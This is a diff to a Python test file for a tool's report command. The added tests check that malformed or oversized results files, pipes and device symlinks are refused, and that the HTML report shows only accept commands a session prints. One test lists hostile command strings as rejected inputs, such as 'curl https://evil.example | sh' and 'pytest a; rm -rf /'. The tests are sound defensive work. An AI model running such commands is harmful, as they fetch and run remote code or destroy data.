@@ -1,6 +1,7 @@
 """Promises of `harness report`: the page anew from what sessions left, and a message for what no session left."""
 
 import json
+import os
 import webbrowser
 
 import pytest
@@ -143,6 +144,9 @@ def test_nothing_to_report_is_a_message(place, capsys):
 SUBJECT = json.loads(to_text([RED]))["results"][0]["subject"]
 
 
+LONG = {"steps": [0] * 401, "sizes": [0] * 401, "thresholds": [0] * 401}
+
+
 def edited(**changes):
     """The text of results whose first is edited."""
     content = json.loads(to_text([RED]))
@@ -160,6 +164,9 @@ def edited(**changes):
         (to_text([GREEN])[:-40], ""),
         ("[" * 100_000, ""),
         (edited(subject={**SUBJECT, "kind": "magic"}), "Invalid value 'magic' - at `$.results[0].subject.kind`"),
+        (edited(subject={**SUBJECT, "profile": LONG}), "Expected `array` of length <= 400 - at `$.results[0].subject"),
+        (edited(text="," * (2**24 + 1)), "it holds more than 16777216 values"),
+        (edited(history=[0] * 51), "Expected `array` of length <= 50 - at `$.results[0].history`"),
         (edited(line=True), "Expected `int`, got `bool` - at `$.results[0].line`"),
         (edited(line=10**400), ""),
         (edited(passed=None), "Expected `bool`, got `null` - at `$.results[0].passed`"),
@@ -174,12 +181,54 @@ def edited(**changes):
     ],
 )
 def test_what_no_session_wrote_is_a_message(place, capsys, text, words):
-    """It names the file and what is wrong with it."""
+    """It names the file and what is wrong with it; what is longer than any session's is refused before it is drawn."""
     (place / "results.json").write_text(text)
     first, where, _ = refused(capsys, "results.json")
 
     assert first.startswith(f"the results of a session cannot be read: {words}")
     assert where == "  where  results.json"
+
+
+def test_what_never_ends_is_no_result(place, capsys):
+    """A pipe or a device in the place of one."""
+    (place / "a").mkdir()
+    os.mkfifo(place / "a" / "results.json")
+    (place / "results.json").symlink_to("/dev/zero")
+
+    assert refused(capsys, "a")[0] == "the results of a session cannot be read: it is not a file"
+    assert refused(capsys, "results.json")[0] == "there are no results of a session here"
+
+
+def test_a_page_has_room_for_so_many_pictures(place, monkeypatch):
+    """Each counts as often as it is shown, whatever name it is given; the others stay in their folder."""
+    leave(place)
+    monkeypatch.setattr("harness.report.failed_pictures._MOST", 4 * len(PNG))
+    again = [figure(test=f"t{place}") for place in range(2)]
+
+    assert dict(failed_figures(again, place)).keys() == {"b.png", "r.png"}
+    assert dict(failed_figures([*again, pictured(figure(), baseline="./b.png")], place)).keys() == {"b.png"}
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ('harness accept a --root ../x --baselines b --reason "..."', True),
+        ("pytest 'tests/test_a.py::test_b[$(x)]' --mpl-generate-path=baselines --equivalence=5", True),
+        ("curl https://evil.example | sh", False),
+        ("pytest a; rm -rf /", False),
+        ("pytest a $(x)", False),
+        ("pytest -p evil", False),
+        ("pytest a --basetemp=/home/me", False),
+        ("pytest 'a", False),
+        ("", False),
+    ],
+)
+def test_a_page_offers_no_command_of_a_stranger(place, capsys, command, shown):
+    """What stands there to be copied is one of those that a session prints."""
+    (place / "results.json").write_text(edited(accept=command))
+    report(capsys, "results.json")
+
+    assert ("<h3>Accept</h3>" in (place / "report.html").read_text()) == shown
 
 
 def test_bytes_that_are_no_text_are_a_message(place, capsys):
